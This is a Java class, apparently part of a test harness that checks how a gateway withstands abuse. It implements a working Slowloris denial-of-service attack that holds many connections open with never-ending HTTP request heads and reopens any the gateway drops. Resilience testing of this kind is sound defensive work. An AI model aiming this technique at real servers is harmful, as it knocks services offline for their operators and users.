package gatehouse.abuse.attacks;

import gatehouse.abuse.Attack;
import gatehouse.abuse.Sockets;
import gatehouse.abuse.Target;
import java.io.IOException;
import java.net.Socket;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * Slowloris: {@code connections} request heads that never end, each growing by one header line a
 * second; a connection the gateway closes is opened again. Volume: connections opened.
 */
public final class SlowlorisHeads implements Attack {
  private final int connections;

  public SlowlorisHeads(int connections) {
    this.connections = connections;
  }

  @Override
  public String name() {
    return "slowloris heads";
  }

  @Override
  public String unit() {
    return "connections";
  }

  @Override
  public long run(Target target, Duration duration) throws Exception {
    long deadline = System.nanoTime() + duration.toNanos();
    List<Socket> open = new ArrayList<>();
    long opened = 0;
    try {
      int line = 0;
      do {
        for (int i = 0; i < open.size(); i++) {
          if (!Sockets.write(open.get(i), "X-Slow-" + line + ": " + line + "\r\n")) {
            Sockets.close(open.get(i));
            open.set(i, head(target));
            opened++;
          }
        }
        while (open.size() < connections && System.nanoTime() < deadline) {
          open.add(head(target));
          opened++;
        }
        line++;
      } while (Sockets.pause(1000, deadline));
    } finally {
      Sockets.closeAll(open);
    }
    return opened;
  }

  private static Socket head(Target target) throws IOException {
    Socket s = Sockets.connect(target.port());
    Sockets.write(s, "GET " + Target.ATTACK + "slowloris HTTP/1.1\r\nHost: gw.test\r\n");
    return s;
  }
}
